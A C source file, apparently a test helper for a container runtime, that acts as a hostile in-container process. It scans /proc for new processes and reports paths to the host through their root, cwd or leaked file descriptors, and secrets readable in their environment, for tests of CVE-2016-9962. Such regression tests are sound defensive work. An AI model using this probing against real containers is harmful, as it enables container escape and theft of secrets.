/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile process in a container: looks into every other process that appears, through /proc,
 * for a way to the host. For tests of exec (CVE-2016-9962).
 *
 *   peek FILE SECRET UNTIL
 *
 * FILE is a path on the host; SECRET is text of the caller's environment. Until the file UNTIL is
 * there, prints a line for each find:
 *   root PID, cwd PID   FILE can be reached from there
 *   fd PID N NAME       that descriptor is a file or directory that the container does not have
 *   environ PID         SECRET can be read
 * and in the end "seen N", how many processes there were to look into.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_ENVIRON (1 << 16)
#define UP "../../../../../../../../../../../../../../../../"

static const char *file;
static const char *secret;

/* A directory of another mount tree leads up to the root of that tree. */
static bool leads_to_host(int dirfd)
{
	char path[8192];
	struct stat st;

	snprintf(path, sizeof(path), UP "%s", file);
	return fstatat(dirfd, path, &st, AT_SYMLINK_NOFOLLOW) == 0;
}

static void look_at_directory(const char *pid, const char *name)
{
	char path[512];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (leads_to_host(fd))
		printf("%s %s\n", name, pid);
	close(fd);
}

/* Whether the container has the same file by the same name. */
static bool is_own(const char *name, const struct stat *st)
{
	struct stat own;

	return stat(name, &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino;
}

static void look_at_fd(const char *pid, const char *number)
{
	char path[512];
	char name[4096];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, number);
	n = readlink(path, name, sizeof(name) - 1);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (n < 0 || fd < 0)
		return;
	name[n] = '\0';
	if (fstat(fd, &st) == 0 && (S_ISREG(st.st_mode) || S_ISDIR(st.st_mode)) &&
	    !is_own(name, &st))
		printf("fd %s %s %s\n", pid, number, name);
	close(fd);
}

static void look_at_fds(const char *pid)
{
	const struct dirent *entry;
	char path[512];
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	if (!dir)
		return;
	while ((entry = readdir(dir))) {
		if (isdigit(entry->d_name[0]) && atoi(entry->d_name) > 2)
			look_at_fd(pid, entry->d_name);
	}
	closedir(dir);
}

static void look_at_environment(const char *pid)
{
	static char text[MAX_ENVIRON];
	char path[512];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text));
	if (n > 0 && memmem(text, (size_t)n, secret, strlen(secret)))
		printf("environ %s\n", pid);
	close(fd);
}

/* Those that were there before are not worth a look. */
static void look_at(const char *pid)
{
	static long last;
	static unsigned seen;
	long number = pid ? strtol(pid, NULL, 10) : 0;

	if (!pid) {
		printf("seen %u\n", seen);
		return;
	}
	if (number <= getpid())
		return;
	seen += number > last;
	last = number > last ? number : last;
	look_at_directory(pid, "root");
	look_at_directory(pid, "cwd");
	look_at_fds(pid);
	look_at_environment(pid);
}

int main(int argc, char **argv)
{
	const struct dirent *entry;
	DIR *proc = opendir("/proc");

	if (argc != 4 || !proc) {
		fprintf(stderr, "usage: peek FILE SECRET UNTIL\n");
		return 2;
	}
	file = argv[1];
	secret = argv[2];
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (access(argv[3], F_OK) < 0) {
		rewinddir(proc);
		while ((entry = readdir(proc))) {
			if (isdigit(entry->d_name[0]))
				look_at(entry->d_name);
		}
	}
	look_at(NULL);
	closedir(proc);
	return 0;
}
